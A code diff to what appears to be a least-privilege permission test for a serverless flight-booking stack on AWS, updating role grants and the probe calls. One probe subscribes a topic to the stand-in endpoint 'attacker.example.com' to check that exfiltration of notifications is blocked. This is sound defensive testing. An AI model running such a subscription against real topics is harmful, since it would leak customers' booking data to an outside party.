@@ -30,7 +30,7 @@ FUNCTION_ROLES = (
 )
 TABLES = ("FlightTable", "BookingTable", "PaymentTable", "LoyaltyTable")
 QUEUES = ("LoyaltyQueue", "LoyaltyDeadLetterQueue", "BookingDeadLetterQueue")
-TOPICS = ("BookingTopic",)
+TOPICS = ("BookingTopic", "AlarmTopic")
 FUNCTIONS = (
     "ReserveBookingFunction",
     "ConfirmBookingFunction",
@@ -49,7 +49,8 @@ JOBS = {
     ("ConfirmBookingFunctionRole", "dynamodb:UpdateItem", "BookingTable"),
     ("CancelBookingFunctionRole", "dynamodb:UpdateItem", "BookingTable"),
     ("NotifyBookingFunctionRole", "sns:Publish", "BookingTopic"),
-    ("CollectPaymentFunctionRole", "dynamodb:PutItem", "PaymentTable"),
+    ("CollectPaymentFunctionRole", "dynamodb:GetItem", "PaymentTable"),
+    ("CollectPaymentFunctionRole", "dynamodb:UpdateItem", "PaymentTable"),
     ("RefundPaymentFunctionRole", "dynamodb:UpdateItem", "PaymentTable"),
     ("IngestLoyaltyFunctionRole", "sqs:ReceiveMessage", "LoyaltyQueue"),
     ("IngestLoyaltyFunctionRole", "sqs:DeleteMessage", "LoyaltyQueue"),
@@ -106,10 +107,10 @@ QUEUE_ATTEMPTS: dict[str, Attempt] = {
 TOPIC_ATTEMPTS: dict[str, Attempt] = {
     # No bookingStatus attribute: even if it were published, the loyalty subscription would drop it.
     "sns:Publish": lambda c, k, t: c.client("sns", k).publish(
-        TopicArn=c.stack.outputs["BookingTopicArn"] if c.stack else "", Message="{}"
+        TopicArn=c.stack.physical_id(t) if c.stack else t, Message="{}"
     ),
     "sns:Subscribe": lambda c, k, t: c.client("sns", k).subscribe(
-        TopicArn=c.stack.outputs["BookingTopicArn"] if c.stack else "",
+        TopicArn=c.stack.physical_id(t) if c.stack else t,
         Protocol="https",
         Endpoint="https://attacker.example.com/notices",
     ),
